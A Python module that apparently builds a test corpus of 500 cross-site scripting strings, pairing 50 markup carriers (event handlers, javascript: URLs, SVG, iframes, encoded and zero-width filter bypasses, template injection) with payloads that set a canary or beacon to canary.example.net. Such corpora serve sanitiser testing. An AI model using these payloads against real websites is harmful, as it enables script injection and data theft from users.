"""Five hundred forms of active content, each with a canary: generated from carriers and payloads."""

from itertools import islice, product

FORMS_TOTAL = 500
FAR = "https://canary.example.net"

_PAYLOADS = (
    "window.ran={n}",
    "alert({n})",
    "fetch('{far}/{n}')",
    "new Image().src='{far}/{n}'",
    "location='{far}/{n}'",
    "parent.ran={n};confirm({n})",
    "eval('window.ran={n}')",
    "import('{far}/{n}.js')",
    "navigator.sendBeacon('{far}/{n}')",
    "document.body.innerHTML='<img src={far}/{n}>'",
)
_CARRIERS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=//canary.example.net/{n}.js></script>",
    '<img src=x onerror="{js}">',
    "<img/src='{far}/{n}.png'onload={js}>",
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>',
    '<math><mtext><style><img src=x onerror="{js}"></style></mtext></math>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="{far}/{n}.swf">',
    '<a href="javascript:{js}" autofocus onfocus="{js}">click</a>',
    '<a href="data:text/html,<script>{js}</script>">x</a>',
    '<body onload="{js}">',
    '<input autofocus onfocus="{js}">',
    '<select autofocus onfocus="{js}"></select>',
    '<details open ontoggle="{js}">x</details>',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}"></audio>',
    '<marquee onstart="{js}">x</marquee>',
    '<form action="javascript:{js}"><button autofocus>x</button></form>',
    "<link rel=stylesheet href={far}/{n}.css>",
    "<style>@import '{far}/{n}.css'; * {{ background: url({far}/{n}) }}</style>",
    '<div style="position:fixed;inset:0;z-index:99999;background:url({far}/{n})" onclick="{js}">x</div>',
    '<base href="{far}/">',
    '<meta http-equiv=refresh content="0;url={far}/{n}">',
    "<template><script>{js}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '"><script>{js}</script>',
    "'-{js}-'",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    '<!--><img src=x onerror="{js}">-->',
    "<![CDATA[<script>{js}</script>]]>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "[click](javascript:{js})",
    "![x]({far}/{n}.png)",
    "javascript:{js}//",
    "\u202e<script>{js}</script>\u202c",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "<form id=body><input name=firstChild></form><a id=list><a id=bar name=hidden>{js}",
    "__proto__[onclick]={js}",
    '<button formaction="javascript:{js}" accesskey=a>x</button>',
)


def _forms() -> tuple[str, ...]:
    pairs = islice(product(_CARRIERS, _PAYLOADS), FORMS_TOTAL)
    return tuple(
        f"{number} {carrier.format(js=payload.format(n=number, far=FAR), n=number, far=FAR)}"
        for number, (carrier, payload) in enumerate(pairs)
    )


FORMS = _forms()
"""Each holds its number, by which it is known."""
